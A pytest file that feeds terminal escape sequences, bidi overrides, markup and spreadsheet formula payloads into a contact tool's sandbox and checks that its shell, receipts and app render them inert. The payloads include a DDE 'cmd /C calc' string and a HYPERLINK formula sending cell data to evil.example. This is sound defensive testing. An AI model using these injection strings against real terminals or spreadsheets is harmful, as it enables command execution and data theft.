"""Names from strangers: escape sequences, controls, bidi overrides, formulas, markup and a
name of 10,000 characters, put in every provider's sandbox data (members, groups, lists, an
error answer), then read back through the shell, the receipts and the app at 80x24.

Nothing raw may reach a terminal, a spreadsheet or a Markdown reader; JSON keeps it exact.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from textual.widgets import DataTable

from providers import cli
from providers.accounts.workspace import SandboxWorkspace, verify_command
from providers.jobs.receipts import export, receipt
from providers.jobs.words import place
from providers.journal import Journal
from providers.models import Provider
from providers.sandbox.apis import Sandbox
from providers.sandbox.autosend import AutoSendState
from providers.text import HIDDEN, json_text, shown
from tests.helpers import FAST
from tests.scenes import accounts, quick_app, status, until
from tui.main import main

HOSTILE = {
    "csi": "Wipe\x1b[2J\x1b[HMe",
    "title": "Title\x1b]0;pwned\x07",
    "clipboard": "Clip\x1b]52;c;aWQK\x07board",
    "hyperlink": "\x1b]8;;http://evil.example/\x1b\\Hyper\x1b]8;;\x1b\\",
    "dcs": "\x1bP1$r0m\x1b\\Dcs",
    "c1": "Csi\x9b2J",
    "bidi": "Bidi\u202egnp.exe",
    "isolate": "Iso\u2066late\u2069",
    "nul": "Nul\x00byte",
    "cr": "Carriage\rReturn",
    "lf": "Line\nFeed",
    "tab": "Tab\tbed",
    "bel": "Bell\x07",
    "del": "Del\x7fete",
    "long": "L" * 9_999 + "!",
    "hyperlink formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "cmd": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd",
    "at": "@SUM(1+1)*cmd",
    "markup": "[bold red]x[/]",
    "link markup": "[link=http://evil.example]click[/link]",
    "markdown": "# Head | `tick` [a](http://evil.example) *em* <b>",
}
#: everything but the long one in one name: the containers' names
MIXED = " ".join(text for key, text in HOSTILE.items() if key != "long")
ERROR = "Refused\x1b]0;pwned\x07 \u202e[bold]no[/] \x9b2J\nsecond line"
ERROR_CODE = "E\x1b[31mCODE"
#: what no terminal, file or screen may receive: C0 controls but tab and line feed, DEL,
#: C1 controls, bidi marks, overrides and isolates
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def assert_clean(text: str, where: str) -> None:
    found = RAW.search(text)
    assert found is None, (
        f"{where}: raw {found.group()!r} in {text[max(0, found.start() - 60) : found.end() + 20]!r}"
    )


def hostile_sandbox() -> Sandbox:
    """The sandbox with hostile names on the first members of one group (or list) a provider,
    hostile names on every container, and Jade Chen (found in every account) hostile too."""
    sandbox = Sandbox(autosend=AutoSendState.seeded(big_list=2_000)).unlimited()
    names = list(HOSTILE.values())
    others = [HOSTILE[k] for k in ("long", "cr", "hyperlink formula", "link markup", "bidi")] * 2
    jade = sandbox.everywhere[0]

    rasl = sandbox.rasl
    for number, group in rasl.groups.items():
        group["name"] = f"Spring Open Day {MIXED}" if number == 1 else others[number]
    for number, source in rasl.sources.items():
        source["name"] = others[-number]
    for contact, name in zip(rasl.members_of(1), names, strict=False):
        contact["first_name"], contact["last_name"] = name, ""
    for contact in rasl.contacts.values():
        if contact["phone"] == jade["phone"]:
            contact["first_name"], contact["last_name"] = "Jade\x1b]52;c;aWQK\x07", "Chen\u202e"

    wasend = sandbox.wasend
    wasend.sessions["sess_events"]["session"]["sessionName"] = "Events\x1b[31m team"
    for session in wasend.groups.values():
        for number, group in enumerate(session.values()):
            subject = f"Choir {MIXED}" if group["subject"] == "Choir" else others[number]
            group["subject"] = group["name"] = subject
    choir = next(g for s in wasend.groups.values() for g in s.values() if "Choir" in g["subject"])
    plain = [
        p
        for pid, p in choir["participants"].items()
        if not p["isSuperAdmin"] and pid != choir["our_jid"]
    ]
    for participant, name in zip(plain, names, strict=False):
        participant["displayName"] = name
    for session in wasend.groups.values():
        for group in session.values():
            for participant in group["participants"].values():
                if participant["phoneNumber"] == jade["phone"]:
                    participant["displayName"] = "Jade\x1b]0;pwned\x07 Chen"

    autosend = sandbox.autosend
    for number, listed in enumerate(autosend.lists.values()):
        listed.name = f"Beta testers {MIXED}" if listed.name == "Beta testers" else others[number]
    beta = next(c for c in autosend.lists.values() if c.name.startswith("Beta testers"))
    for contact, name in zip(beta.numbers, names, strict=False):
        autosend.changed[contact] = {"firstName": name, "lastName": ""}
    jade_number = autosend.number_for("emails", jade["email"])
    assert jade_number is not None
    autosend.changed[jade_number] = {"firstName": "Jade\u2066", "lastName": "\x9bChen"}
    return sandbox


def refuse(sandbox: Sandbox, provider: Provider, method: str, match: str) -> None:
    """Every `method` call whose path holds `match` is refused with hostile words (a 400,
    which is never sent again)."""
    faults = sandbox.faults[provider]
    faults.error_rate, faults.error_status = 1.0, 400
    faults.error_code, faults.error_message = ERROR_CODE, ERROR
    faults.methods, faults.match = frozenset({method}), match


# -- the one function -------------------------------------------------------------------


def test_shown_pictures_what_it_hides_and_json_keeps_it_exact() -> None:
    for text in HOSTILE.values():
        assert_clean(shown(text), "shown")
        document = json_text({"name": text})
        assert_clean(document, "json_text")
        assert json.loads(document) == {"name": text}
    assert shown(HOSTILE["csi"]) == "Wipe␛[2J␛[HMe"
    assert shown(HOSTILE["lf"]) == "Line␊Feed" and shown(HOSTILE["bidi"]) == "Bidi�gnp.exe"
    assert shown("Zoë 👩‍👩‍👧 Ahmadi‌nejad") == "Zoë 👩‍👩‍👧 Ahmadi‌nejad"  # joiners stay
    assert shown(HOSTILE["long"], 20) == "L" * 19 + "…"
    assert json_text("tag \U000e0041 \ud800") == '"tag \\udb40\\udc41 \\ud800"'


def test_every_control_and_format_character_is_hidden() -> None:
    """Checked against the Unicode database this Python has: each control, format
    character (but the two joiners), surrogate and separator, and nothing assigned else."""
    everything = "".join(map(chr, range(sys.maxunicode + 1)))
    matched = {ord(m.group()) for m in HIDDEN.finditer(everything)}
    hidden = {
        code
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    } - {0x200C, 0x200D}
    fillers = {0x115F, 0x1160, 0x3164, 0xFFA0}
    assert hidden <= matched
    assert all(unicodedata.category(chr(c)) == "Cn" for c in matched - hidden - fillers)


# -- the shell ----------------------------------------------------------------------------


def shell(capsys: pytest.CaptureFixture[str], *argv: str, code: int = 0) -> tuple[str, str]:
    """Run a command; whatever it prints must be clean (a CSV's lines end in CR LF)."""
    exited = main(list(argv))
    out, err = capsys.readouterr()
    lines = out.replace("\r\n", "\n") if argv[-1] == "csv" else out
    assert_clean(lines, " ".join(argv[:3]) + " (stdout)")
    assert_clean(err, " ".join(argv[:3]) + " (stderr)")
    assert exited == code, err
    return out, err


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch) -> SandboxWorkspace:
    """The shell's commands on the hostile sandbox (as `--demo` is on the plain one)."""
    workspace = SandboxWorkspace(hostile_sandbox(), options=FAST)
    monkeypatch.setattr(cli, "_workspace", lambda args: workspace)
    return workspace


def _containers(capsys: pytest.CaptureFixture[str], account: str) -> list[dict[str, Any]]:
    listed: list[dict[str, Any]] = json.loads(shell(capsys, "containers", account, "--json")[0])
    return listed


def _target(capsys: pytest.CaptureFixture[str], account: str) -> dict[str, Any]:
    return next(c for c in _containers(capsys, account) if c["name"].endswith(MIXED))


@pytest.mark.parametrize("account", ["sandbox-rasl", "sandbox-wasend", "sandbox-autosend"])
def test_containers_and_members_in_text_json_and_jsonl(
    capsys: pytest.CaptureFixture[str], planted: SandboxWorkspace, account: str
) -> None:
    listed = _containers(capsys, account)
    assert HOSTILE["long"] in {c["name"] for c in listed}  # exact, in JSON
    out, _ = shell(capsys, "containers", account)
    assert len(out.splitlines()) == len(listed) + 1
    target = _target(capsys, account)

    out, err = shell(capsys, "members", account, target["id"])
    rows = out.splitlines()
    assert len(rows) == target["member_count"] + 1 and all(r.count("\t") == 4 for r in rows)
    assert shown(HOSTILE["csi"]) in [r.split("\t")[1] for r in rows]
    assert shown(MIXED) in err

    document = json.loads(shell(capsys, "members", account, target["id"], "--json")[0])
    lines = shell(capsys, "members", account, target["id"], "--jsonl")[0].splitlines()
    for members in (document["members"], [json.loads(line) for line in lines]):
        assert {m["name"] for m in members} >= set(HOSTILE.values())


def test_a_providers_hostile_words_reach_stderr_as_text(
    capsys: pytest.CaptureFixture[str], planted: SandboxWorkspace
) -> None:
    refuse(planted.sandbox, Provider.AUTOSEND, "GET", "contact-lists")
    _, err = shell(capsys, "containers", "sandbox-autosend", code=1)
    assert shown(ERROR) in err and len(err.splitlines()) == 1


def test_remove_find_jobs_and_receipts(
    capsys: pytest.CaptureFixture[str], planted: SandboxWorkspace, tmp_path: Path
) -> None:
    sandbox, account = planted.sandbox, "sandbox-rasl"
    target = _target(capsys, account)
    document = json.loads(shell(capsys, "members", account, target["id"], "--json")[0])
    hostile = [m for m in document["members"] if m["name"] in HOSTILE.values()]
    phones = [m["address"] for m in hostile] + [m["address"] for m in document["members"][-2:]]
    refuse(sandbox, Provider.RASL, "DELETE", "/contacts")

    out, _ = shell(capsys, "remove", account, target["id"], *phones, "--yes", code=1)
    plan, _, sent = out.partition("journaled; sending.\n")
    assert place(f"Spring Open Day {MIXED}") in plan
    outcomes = [line for line in sent.splitlines() if line.startswith("✗ failed")]
    summary = next(line for line in sent.splitlines() if line.startswith("Job "))
    assert len(outcomes) == len(phones) == sent.splitlines().index(summary)
    assert all(shown(ERROR) in line and shown(ERROR_CODE) in line for line in outcomes)
    job_id = summary.split()[1]

    jade = sandbox.everywhere[0]
    out, _ = shell(capsys, "find", jade["phone"], jade["email"])
    assert "Jade␛]52;c;aWQK␇ Chen�" in out
    json.loads(shell(capsys, "find", jade["phone"], jade["email"], "--json")[0])
    refuse(sandbox, Provider.WASEND, "DELETE", "participants")
    out, _ = shell(capsys, "remove", "--everywhere", jade["phone"], jade["email"], "--yes", code=1)
    everywhere_id = out.split("Receipt: rosterdeck --demo jobs receipt ")[1].split()[0]

    journal = Journal(planted.journal_path())
    out, _ = shell(capsys, "jobs")
    assert len(out.splitlines()) == 2 + len(journal.everywhere(everywhere_id).parts)
    json.loads(shell(capsys, "jobs", "--json")[0])

    for job in (job_id, everywhere_id):
        for form in ("md", "csv", "json"):
            out, _ = shell(capsys, "jobs", "receipt", job, "--format", form)
            written = export(journal, job, tmp_path, verify_command(planted))
            written = written.with_suffix(f".{form}")
            assert written.read_bytes().decode("utf-8") == out
            CHECKS[form](out)
    cells = {
        cell for row in csv.reader(io.StringIO(receipt(journal, job_id, "csv"))) for cell in row
    }
    for formula in ("hyperlink formula", "cmd", "minus", "at"):
        assert "'" + HOSTILE[formula] in cells
    assert HOSTILE["csi"] in json.loads(receipt(journal, job_id, "json"))["members"][0]["name"]


def check_csv(text: str) -> None:
    """Every row as wide as the header, and no cell a spreadsheet would run."""
    rows = list(csv.reader(io.StringIO(text)))
    assert all(len(row) == len(rows[0]) for row in rows)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def check_markdown(text: str) -> None:
    """Read as CommonMark: our headings only, one flat list a section, no link, code,
    emphasis or HTML made of a name."""
    tokens = MarkdownIt("commonmark").parse(text)
    flat = [t for token in tokens for t in (token, *(token.children or []))]
    kinds = {t.type for t in flat}
    assert not kinds & {"link_open", "em_open", "html_inline", "html_block", "s_open"}
    spans = {t.content for t in flat if t.type == "code_inline"}
    verify = ("rosterdeck jobs verify", "rosterdeck --demo jobs verify")
    assert spans and all(span.startswith(verify) for span in spans), spans
    assert "ordered_list_open" not in kinds
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert all(
        h.startswith(
            (
                "Removal receipt",
                "Done",
                "Not done",
                "What happened",
                "Still held",
                "Not searched",
                "Staying off",
            )
        )
        for h in headings
    )
    assert all(t.level == 1 for t in tokens if t.type == "list_item_open")


CHECKS = {"md": check_markdown, "csv": check_csv, "json": json.loads}


# -- the app at 80x24 ---------------------------------------------------------------------


def look(app: Any, where: str, within: str = "") -> str:
    """The screen as drawn (and as its picture): nothing raw in it. Returns the words drawn
    inside the widget `within`, a line after another, so that a name a dialog wrapped is
    found whole."""
    assert_clean(app.export_screenshot(), where)
    strips = app.screen._compositor.render_strips()
    assert_clean("\n".join(strip.text for strip in strips), where)
    region = (app.screen.query_one(within) if within else app.screen).content_region
    lines = strips[region.y : region.bottom]
    return " ".join(" ".join(s.crop(region.x, region.right).text.split()) for s in lines)


@pytest.mark.slow
async def test_every_screen_shows_hostile_names_as_text() -> None:
    sandbox = hostile_sandbox()
    refuse(sandbox, Provider.WASEND, "DELETE", "participants")
    app: Any = quick_app(sandbox)
    async with app.run_test(size=(80, 24)) as pilot:
        await accounts(pilot)
        look(app, "accounts")
        await pilot.press("down", "enter")
        await until(pilot, lambda: bool(getattr(app.screen, "containers", None)))
        assert "Carriage␍Return" in look(app, "groups")
        await pilot.press(*"choir", "enter", "enter")
        await until(pilot, lambda: type(app.screen).__name__ == "MembersScreen")
        await until(pilot, lambda: not app.screen.streaming)
        table, roster = app.screen.table, app.screen.roster
        seen = look(app, "members")
        while table.cursor < roster.shown - 1:
            await pilot.press("pagedown")
            seen += look(app, "members, further down")
        assert all(shown(name, 12)[:11] in seen for name in HOSTILE.values())

        names = [roster.member_at(row).name for row in range(roster.shown)]
        plain = next(n for n in names[1:] if n and n not in HOSTILE.values())
        for name in (HOSTILE["csi"], HOSTILE["bidi"], HOSTILE["long"], plain):
            table.move_to(names.index(name))
            await pilot.press("space")
        await pilot.press("d")
        await until(pilot, lambda: type(app.screen).__name__ == "ConfirmRemovalScreen")
        dialog = look(app, "confirm", within="#explain")
        who = ["Wipe␛[2J␛[HMe", "Bidi�gnp.exe", "L" * 29 + "…", plain]
        assert f"Who: {', '.join(who)}" in dialog, dialog

        await pilot.press("y")
        await until(pilot, lambda: type(app.screen).__name__ == "ProgressScreen")
        await until(pilot, lambda: not app.desk.runs.busy)
        await pilot.pause()
        seen = look(app, "progress")
        assert "✗ failed Refused␛]0;pwned␇ �[bo…" in seen  # the provider's words, cut
        phone = roster.member_at(names.index(HOSTILE["csi"])).address
        said = f"Me · {phone}: 400: Refused␛]0;pwned␇ �[bold]no[/] �2J␊second line"
        assert said in seen, seen  # who, and the provider's words, whole
        await pilot.press("enter")
        await until(pilot, lambda: type(app.screen).__name__ == "StoryScreen")
        assert "Refused␛]0;pwned␇" in look(app, "a member's story")
        await pilot.press("escape", "e")
        await until(pilot, lambda: type(app.screen).__name__ == "ReceiptScreen")
        await pilot.pause()
        assert "Wipe␛[2J␛[HMe" in look(app, "receipt")

        await pilot.press("escape", "escape", "escape", "escape", "h")
        await until(pilot, lambda: type(app.screen).__name__ == "HistoryScreen")
        assert "Choir Wipe␛[2J␛[HMe" in look(app, "history")
        await pilot.press("escape", "f")
        jade = sandbox.everywhere[0]
        await pilot.press(*jade["phone"], "space", *jade["email"], "enter")
        await until(pilot, lambda: "d removes them" in status(pilot))
        look(app, "find")
        await pilot.press("d")
        await until(pilot, lambda: bool(app.screen.query("#typed")))
        look(app, "confirm everywhere")
        places = app.screen.asked.word
        await pilot.press(*places, "enter")
        await until(pilot, lambda: type(app.screen).__name__ == "EverywhereProgressScreen")
        await until(pilot, lambda: not app.desk.runs.busy)
        await pilot.pause()
        look(app, "everywhere")
        await pilot.press("e")
        await until(pilot, lambda: type(app.screen).__name__ == "ReceiptScreen")
        await pilot.pause()
        look(app, "everywhere receipt")
        app.desk.runs.interrupt_all()

    again: Any = quick_app(sandbox)
    async with again.run_test(size=(80, 24)) as pilot:
        await until(pilot, lambda: type(again.screen).__name__ == "ConfirmRemovalScreen")
        await pilot.pause()
        said = look(again, "resume", within="#explain")
        assert "Choir Wipe␛[2J␛[HMe" in said, said


async def test_a_providers_hostile_words_on_screen() -> None:
    sandbox = hostile_sandbox()
    refuse(sandbox, Provider.AUTOSEND, "GET", "contact-lists")
    sandbox.faults[Provider.AUTOSEND].error_message = ERROR + HOSTILE["long"]
    app: Any = quick_app(sandbox)
    async with app.run_test(size=(80, 24)) as pilot:
        table = app.screen.query_one(DataTable)
        await until(pilot, lambda: "✗" in str(table.get_row_at(2)[3]))
        # the words start on screen (how many fit depends on the scrollbars of the moment)
        assert "✗ AutoSend (sandbox-autosend) re" in look(app, "accounts")
        assert len(str(table.get_row_at(2)[3])) == 160
        await pilot.press("down", "down", "enter")
        await until(pilot, lambda: "✗" in status(pilot))
        await pilot.pause()
        assert "Refused␛]0;pwned␇" in look(app, "groups, refused")
